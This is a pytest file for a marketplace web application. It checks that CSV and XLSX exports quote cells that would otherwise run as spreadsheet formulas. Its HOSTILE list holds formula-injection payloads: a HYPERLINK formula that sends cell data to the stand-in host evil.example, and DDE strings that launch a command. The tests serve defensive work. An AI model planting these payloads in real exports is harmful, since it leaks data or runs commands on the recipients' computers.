"""Formula injection: no exported cell runs as a spreadsheet formula (OWASP CSV injection)."""

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from openpyxl import load_workbook

from marketplace.access import office_group
from marketplace.coverage import exports
from marketplace.coverage.importers import import_register
from marketplace.spreadsheet import FORMULA_STARTS, safe_cell

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_that_starts_a_formula_is_quoted(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    "value", ["Mắm thái", "", "0912 345 678", "a=b", "1.8", 0.741, -5, 139, None, "'=1"]
)
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_every_exporter_quotes_tab_and_carriage_return_too():
    table = exports.Table("t", "T", ["=Tiêu đề", "b"], [["\t=1+1", "\r=1+1"], ["-1", -1]])
    rows = list(csv.reader(io.StringIO(exports.to_csv(table).decode("utf-8-sig"))))
    assert rows == [["'=Tiêu đề", "b"], ["'\t=1+1", "'\r=1+1"], ["'-1", "-1"]]
    sheet = load_workbook(io.BytesIO(exports.to_xlsx([table]))).active
    # (The standard library's XML parser reads a stored \r back as \n; lxml, which openpyxl
    # uses when it is installed, keeps it.)
    assert [c.value.replace("\r", "\n") for c in sheet[2]] == ["'\t=1+1", "'\n=1+1"]
    assert sheet["B3"].value == -1 and sheet["B3"].data_type == "n"  # a number stays a number
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


@pytest.fixture
def hostile_register(db):
    lines = (ROOT / "fixtures/ocop-sample/registry.csv").read_text(encoding="utf-8").splitlines()
    header, rows = lines[0], lines[1 : 1 + len(HOSTILE)]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header.split(","))
    for number, (name, row) in enumerate(zip(HOSTILE, rows, strict=True)):
        cells = next(csv.reader([row]))
        # Product and producer: both reach the call list; a new number links to no listing.
        cells[1], cells[2], cells[6] = name, name, f"9{number:02}/2025/OCOP-AG"
        writer.writerow(cells)
    report = import_register(out.getvalue().encode(), "so.csv", as_of=datetime.date(2026, 11, 27))
    assert report.written, report.lines()


@pytest.fixture
def office_client(client):
    user = User.objects.create_user("can-bo", password="mat-khau-dai-123")
    user.groups.add(office_group())
    client.force_login(user)
    return client


def test_the_call_list_csv_quotes_hostile_names(hostile_register, office_client):
    response = office_client.get("/office/xuat/chua-truc-tuyen.csv?ngay=2026-11-27")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {row[0] for row in rows[1:]} | {row[5] for row in rows[1:]}
    assert {f"'{h}" for h in HOSTILE} <= names
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


def test_the_xlsx_export_holds_no_formula(hostile_register, office_client):
    response = office_client.get("/office/xuat/tat-ca.xlsx?ngay=2026-11-27")
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {f"'{h}" for h in HOSTILE} <= texts


def test_every_module_that_writes_spreadsheets_uses_safe_cell():
    """A CSV or XLSX writer anywhere in the product (not the benchmarks) goes through it."""
    writers = []
    for path in ROOT.glob("**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "tests/", "bench/", "var/")):
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|Workbook\(", source):
            writers.append(relative)
            assert "safe_cell" in source, f"{relative} writes a spreadsheet without safe_cell"
    assert "marketplace/coverage/exports.py" in writers
